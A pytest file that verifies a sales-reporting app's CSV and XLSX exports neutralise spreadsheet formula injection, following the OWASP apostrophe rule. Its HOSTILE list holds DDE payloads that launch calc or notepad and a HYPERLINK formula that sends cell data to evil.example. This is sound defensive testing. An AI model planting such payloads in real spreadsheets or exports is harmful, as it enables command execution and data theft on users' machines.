"""Exports never carry live formulas (issue 23 finding 5, OWASP CSV injection).

Hostile names reach the database the two ways real data does — a Zoho pull (accounts, contacts,
items) and a history file — and every file the app writes from them (CSV and XLSX report
exports, the import error report) is read back: no XLSX cell is a formula, and no text cell
starts with a character a spreadsheet would evaluate unless it carries the OWASP apostrophe.
"""

from __future__ import annotations

import csv
import datetime as dt
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from mangalm_desktop.cli.main import main
from mangalm_desktop.domain.safe_cells import FORMULA_TRIGGERS, safe_text
from mangalm_desktop.reports.catalog import run_report
from mangalm_desktop.reports.export import export
from mangalm_desktop.reports.filters import ReportFilters

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_safe_text_follows_the_owasp_rule() -> None:
    for trigger in FORMULA_TRIGGERS:
        assert safe_text(trigger + "x") == "'" + trigger + "x"
    assert safe_text("Sharma Stores") == "Sharma Stores"
    assert safe_text("") == ""


def _check_csv(path: Path, encoding: str = "utf-8") -> list[list[str]]:
    rows = list(csv.reader(path.open(encoding=encoding, newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS) or _is_number(cell), (path, cell)
    return rows


def _cells(path: Path) -> list[str]:
    return [c for r in _check_csv(path) for c in r]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _check_xlsx(path: Path) -> list[object]:
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name), name
    ws = load_workbook(path).active
    values = []
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_TRIGGERS), (cell.coordinate, cell.value)
            values.append(cell.value)
    return values


def _history_file(path: Path) -> None:
    lines = ["CustomerID,StockCode,InvoiceDate,Quantity,UnitPrice,InvoiceNo,Name,Desc,Country"]
    for i, evil in enumerate(HOSTILE):
        name = evil.replace('"', '""')
        lines.append(f'C{i},P{i},2024-02-{i + 1:02d},{i + 2},2.50,N{i},"{name}","{name}","{name}"')
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


HISTORY_COLUMNS = (
    "store=CustomerID,product=StockCode,date=InvoiceDate,quantity=Quantity,price=UnitPrice,"
    "invoice=InvoiceNo,store_name=Name,product_name=Desc,region=Country"
)


def test_history_names_never_become_formulas(tmp_path: Path, capsys) -> None:
    src = tmp_path / "hist.csv"
    _history_file(src)
    db = tmp_path / "m.sqlite"
    rc = main(["import", "history", str(src), "--columns", HISTORY_COLUMNS, "--db", str(db), "-q"])
    assert rc == 0, capsys.readouterr()
    for name in ("sales-by-store", "sales-by-product", "sales-by-region"):
        for fmt in ("csv", "xlsx"):
            out = tmp_path / f"{name}.{fmt}"
            rc = main(["report", name, "--out", str(out), "--db", str(db), "-q"])
            assert rc == 0, capsys.readouterr()
            cells = _cells(out) if fmt == "csv" else _check_xlsx(out)
            # the names are all there (the importer trims blanks), shown as text
            for evil in HOSTILE:
                assert "'" + evil.strip() in cells, (name, fmt, evil)


def test_error_report_values_never_become_formulas(tmp_path: Path, capsys) -> None:
    src = tmp_path / "bad.csv"
    rows = ["CustomerID,StockCode,InvoiceDate,Quantity,UnitPrice"]
    for i, evil in enumerate(HOSTILE):
        rows.append(f'C{i},P{i},2024-02-01,"{evil.replace(chr(34), chr(34) * 2)}",1.00')
    src.write_text("\n".join(rows) + "\n", encoding="utf-8")
    report = tmp_path / "errors.csv"
    rc = main(
        [
            "import", "history", str(src), "--db", str(tmp_path / "m.sqlite"), "-q",
            "--columns", "store=CustomerID,product=StockCode,date=InvoiceDate,quantity=Quantity,"
            "price=UnitPrice", "--error-report", str(report),
        ]
    )  # fmt: skip
    capsys.readouterr()
    assert rc == 1
    rows_back = _check_csv(report, encoding="utf-8-sig")
    values = [r[3] for r in rows_back[1:]]
    assert values == ["'" + e for e in HOSTILE]


@pytest.mark.pg
def test_zoho_names_never_become_formulas(pg_url, tmp_path: Path) -> None:
    from mangalm_desktop.zoho import bridge
    from mangalm_desktop.zoho.clock import ManualClock
    from tests.zoho_server import ZohoServer
    from tests.zoho_server.support import central_engine, connect, seed_zoho

    clock = ManualClock()
    central = central_engine(pg_url)
    try:
        with ZohoServer(clock=clock.now) as server:
            seeded = seed_zoho(server, stores=len(HOSTILE), items=len(HOSTILE), invoices=14)
            for rec, evil in zip(seeded["accounts"], HOSTILE, strict=True):
                rec["Account_Name"] = evil
                rec["Billing_City"] = evil
            for rec, evil in zip(seeded["contacts"], HOSTILE, strict=True):
                rec["contact_name"] = rec["company_name"] = evil
            for rec, evil in zip(seeded["items"], HOSTILE, strict=True):
                rec["name"] = evil
            client = connect(server, clock)
            report = bridge.run_once(central, client, ["accounts", "contacts", "items", "invoices"])
            assert [r.error for r in report.results] == [None] * 4, report.as_dict()
        filters = ReportFilters(date_from=dt.date(2025, 1, 1), date_to=dt.date(2027, 12, 31))
        for name in ("sales-by-store", "sales-by-product"):
            res = run_report(central, name, filters, identity=None)
            assert len(res.frame) > 0
            csv_cells = [
                c
                for r in _check_csv(export(res, "csv", tmp_path / f"{name}.csv", identity=None))
                for c in r
            ]
            xlsx_cells = _check_xlsx(export(res, "xlsx", tmp_path / f"{name}.xlsx", identity=None))
            shown = {safe_text(e.replace("\r", "")) for e in HOSTILE} | {"'" + e for e in HOSTILE}
            assert shown & set(csv_cells), name
            assert shown & set(xlsx_cells), name
    finally:
        central.dispose()
